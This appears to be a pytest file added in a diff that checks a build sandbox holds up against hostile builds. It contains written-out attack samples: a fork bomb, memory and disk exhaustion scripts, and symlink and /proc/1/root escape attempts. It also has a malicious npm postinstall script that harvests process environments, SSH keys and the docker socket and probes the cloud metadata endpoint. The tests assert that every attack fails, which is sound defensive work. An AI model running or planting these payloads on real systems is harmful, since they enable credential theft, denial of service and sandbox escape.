@@ -1,0 +1,237 @@
+"""What a build may try against every executor: the host, its services and the builds beside it don't notice."""
+
+from __future__ import annotations
+
+import json
+import os
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.executors import (
+    MEBIBYTE,
+    PATIENCE,
+    ExecutorKind,
+    LoopbackServer,
+    Output,
+    left_in,
+    make_spec,
+    processes_with,
+    run,
+    unique_marker,
+    wait_for,
+)
+from workers.executors.base import ExecutionResult, Executor, Outcome
+
+
+class Bystander:
+    """Another build of the same host: it works until it is told to end."""
+
+    def __init__(self, executor: Executor, workspace: Path) -> None:
+        self._workspace = workspace
+        self._output = Output(marker=b"working")
+        self._results: list[ExecutionResult] = []
+        spec = make_spec("echo working; until [ -e end ]; do sleep 0.1; done; echo built", workspace=workspace)
+        self._thread = threading.Thread(
+            target=lambda: self._results.append(executor.run(spec, self._output, threading.Event()))
+        )
+        self._thread.start()
+        assert self._output.seen.wait(PATIENCE)
+
+    def finish(self) -> tuple[list[Outcome], bytes]:
+        (self._workspace / "end").touch()
+        self._thread.join(PATIENCE)
+        return [result.outcome for result in self._results], self._output.text()
+
+
+@pytest.fixture(autouse=True)
+def _neighbours(exact_executor: Executor, tmp_path: Path) -> Iterator[None]:
+    """During every attack another build goes on, and afterwards nothing is left of either."""
+    workspace = tmp_path / "bystander"
+    workspace.mkdir()
+    workspace.chmod(0o777)
+    bystander = Bystander(exact_executor, workspace)
+    try:
+        yield
+    finally:
+        ended = bystander.finish()
+    assert ended == ([Outcome.SUCCESS], b"working\nbuilt\n")
+    assert left_in(tmp_path / "run") == []
+    assert str(tmp_path) not in Path("/proc/self/mountinfo").read_text()
+
+
+@pytest.fixture
+def workspace(tmp_path: Path) -> Path:
+    directory = tmp_path / "workspace"
+    directory.mkdir()
+    return directory
+
+
+def test_a_fork_bomb_ends_with_its_time(exact_executor: Executor, workspace: Path) -> None:
+    marker = unique_marker()
+    bomb = (
+        "import os, time\nwhile True:\n  try:\n    if os.fork() == 0: os.setsid()\n  except OSError: time.sleep(0.01)"
+    )
+    spec = make_spec("", command=("python3", "-c", bomb, marker), workspace=workspace, wall_seconds=5.0)
+    result = exact_executor.run(spec, Output(), threading.Event())
+    assert result.outcome is Outcome.TIMEOUT
+    assert processes_with(marker) == []
+
+
+def test_a_memory_bomb_of_many_processes_is_out_of_memory(exact_executor: Executor) -> None:
+    marker = unique_marker()
+    hog = "import sys, time; kept = bytearray(40 << 20); time.sleep(600)"
+    script = f"for i in 1 2 3 4 5 6; do python3 -c '{hog}' {marker} & done; wait"
+    result, _ = run(exact_executor, script, memory_bytes=128 * MEBIBYTE)
+    assert result.outcome is Outcome.OUT_OF_MEMORY
+    assert processes_with(marker) == []
+
+
+def test_a_file_bigger_than_the_disk_limit_is_disk_full(exact_executor: Executor, workspace: Path) -> None:
+    script = "head -c 900000000 /dev/zero > big; sleep 600"
+    result, _ = run(exact_executor, script, workspace=workspace, disk_bytes=32 * MEBIBYTE)
+    assert result.outcome is Outcome.DISK_FULL
+
+
+def test_shared_memory_counts_and_ends_with_the_run(exact_executor: Executor) -> None:
+    before = sorted(os.listdir("/dev/shm"))
+    script = "head -c 1000000000 /dev/zero > /dev/shm/filler; ls -l /dev/shm/filler; exit 3"
+    result, printed = run(exact_executor, script)
+    assert (result.outcome, result.exit_code) == (Outcome.USER_ERROR, 3)
+    assert b"No space left" in printed
+    assert sorted(os.listdir("/dev/shm")) == before
+
+
+def test_a_grandchild_in_a_session_of_its_own_ends_with_the_cancel(exact_executor: Executor) -> None:
+    marker = unique_marker()
+    script = f"""
+    trap '' TERM
+    (setsid sh -c 'trap "" TERM INT HUP; while :; do sleep {marker}; done' &)
+    echo ready; while :; do sleep {marker}; done
+    """
+    output, cancel, results = Output(marker=b"ready"), threading.Event(), list[ExecutionResult]()
+    thread = threading.Thread(target=lambda: results.append(exact_executor.run(make_spec(script), output, cancel)))
+    thread.start()
+    assert output.seen.wait(PATIENCE)
+    wait_for(lambda: len(processes_with(f"sleep {marker}")) >= 2)
+    cancel.set()
+    thread.join(PATIENCE)
+    assert [result.outcome for result in results] == [Outcome.CANCELLED]
+    assert processes_with(marker) == []
+
+
+def test_endless_output_ends_with_its_time(exact_executor: Executor) -> None:
+    result, printed = run(exact_executor, "yes endless", wall_seconds=3.0, output_bytes=MEBIBYTE)
+    assert result.outcome is Outcome.TIMEOUT
+    assert MEBIBYTE <= len(printed) < MEBIBYTE + 1000
+
+
+def test_a_line_of_100_megabytes_is_cut(exact_executor: Executor) -> None:
+    result, printed = run(exact_executor, "head -c 100000000 /dev/zero | tr '\\0' x", output_bytes=4 * MEBIBYTE)
+    assert result.outcome is Outcome.SUCCESS
+    assert 4 * MEBIBYTE <= len(printed) < 4 * MEBIBYTE + 1000
+
+
+STEAL = """
+const fs = require("fs"), http = require("http"), net = require("net");
+const [port] = process.env.TARGET.split(",");
+const seen = [];
+for (const pid of fs.readdirSync("/proc").filter(name => /^[0-9]+$/.test(name)))
+  try { seen.push(fs.readFileSync(`/proc/${pid}/environ`, "latin1")); } catch {}
+for (const path of ["/root/.ssh", "/root/.npmrc", "/var/run/docker.sock", "/run/egress/proxy.sock/x"])
+  try { seen.push(fs.readFileSync(path, "latin1")); } catch {}
+const loot = seen.join("\\n").includes("of-the-worker") ? "found" : "nothing";
+function through(address) {
+  return new Promise(done => {
+    const asked = http.request({ host: "127.0.0.1", port: 3128, method: "CONNECT", path: address });
+    const say = answer => done(`${address} ${answer.statusCode}`);
+    asked.on("connect", say).on("response", say).on("error", error => done(`${address} ${error.code}`)).end();
+  });
+}
+function directly(host, port) {
+  return new Promise(done => {
+    const socket = net.connect({ host, port, timeout: 3000 }, () => done(`${host} REACHED`));
+    socket.on("error", error => done(`${host} ${error.code}`)).on("timeout", () => done(`${host} TIMEOUT`));
+  });
+}
+(async () => {
+  console.log("loot", loot);
+  for (const address of [`127.0.0.1:${port}`, `localhost:${port}`, "169.254.169.254:80", "10.0.0.1:443"])
+    console.log(await through(address));
+  for (const [host, port_] of [["127.0.0.1", port], ["169.254.169.254", 80], ["192.0.2.1", 443]])
+    console.log(await directly(host, port_));
+  process.exit(0);
+})();
+"""
+
+
+def test_a_postinstall_script_finds_nothing_and_reaches_nobody(
+    exact_executor: Executor, workspace: Path, loopback_server: LoopbackServer
+) -> None:
+    package = {"name": "thief", "version": "1.0.0", "scripts": {"postinstall": "node steal.js"}}
+    (workspace / "package.json").write_text(json.dumps(package))
+    (workspace / "steal.js").write_text(STEAL)
+    workspace.chmod(0o777)
+    os.environ["CLOUDIFY_CONTRACT_SECRET"] = "of-the-worker"
+    try:
+        result, printed = run(
+            exact_executor,
+            "npm install --foreground-scripts --offline --no-audit --no-fund --no-package-lock",
+            workspace=workspace,
+            network="proxy",
+            environment={"TARGET": str(loopback_server.port), "npm_config_update_notifier": "false"},
+        )
+    finally:
+        del os.environ["CLOUDIFY_CONTRACT_SECRET"]
+    assert result.outcome is Outcome.SUCCESS, printed
+    assert b"loot nothing" in printed
+    assert printed.count(b" 403") == 4, printed
+    assert b"REACHED" not in printed
+    assert {"169.254.169.254", "10.0.0.1", f"127.0.0.1:{loopback_server.port}"} <= set(result.blocked_hosts)
+    assert loopback_server.accepted == []
+
+
+def test_links_out_of_the_tree_lead_to_nothing_of_the_host(
+    exact_executor: Executor, exact_kind: ExecutorKind, workspace: Path, tmp_path: Path
+) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    outside.chmod(0o777)
+    (outside / "secret").write_text("of-the-host")
+    (workspace / "out").symlink_to(outside)
+    (workspace / "up").symlink_to("../outside")
+    (workspace / "root").symlink_to("/proc/1/root")
+    script = f"""
+    cat out/secret up/secret root{outside}/secret {outside}/secret 2>/dev/null
+    for target in out up root{outside}; do (echo x > $target/written) 2>/dev/null && echo wrote $target; done
+    ln {outside}/secret here 2>/dev/null && echo linked
+    exit 0
+    """
+    result, printed = run(exact_executor, script, workspace=workspace)
+    assert (result.outcome, printed) == (Outcome.SUCCESS, b"")
+    assert sorted(os.listdir(outside)) == ["secret"]
+
+
+def test_the_walls_of_a_run_are_out_of_its_reach(exact_executor: Executor, exact_kind: ExecutorKind) -> None:
+    """Its own limits, the files the executor shows, and processes outside of its namespace."""
+    script = """
+    for f in /sys/fs/cgroup/memory/memory.limit_in_bytes /sys/fs/cgroup/memory.max /sys/fs/cgroup/pids/pids.max \
+        /etc/passwd /run/egress/proxy.sock /run/cloudify/entry.py /opt/bin/node; do
+      (echo 1 > $f) 2>/dev/null && echo wrote $f
+    done
+    mount -t tmpfs none /mnt 2>/dev/null && echo mounted
+    ps -A 2>/dev/null | grep -c . ; ls /proc | grep -c '^[0-9]'
+    grep -E '^Cap(Eff|Prm|Bnd):' /proc/self/status | grep -v '0000000000000000' || echo no capabilities
+    grep -E '^(NoNewPrivs|Seccomp):' /proc/self/status | tr '\\n\\t' '  '
+    ulimit -c
+    """
+    _, printed = run(exact_executor, script, network="proxy")
+    assert b"wrote" not in printed
+    assert b"mounted" not in printed
+    assert b"no capabilities" in printed
+    assert b"NoNewPrivs: 1 Seccomp: 2" in printed
+    assert printed.split()[-1] == b"0"
+    processes = [int(word) for word in printed.split()[:2]]
+    assert max(processes) < 20, printed
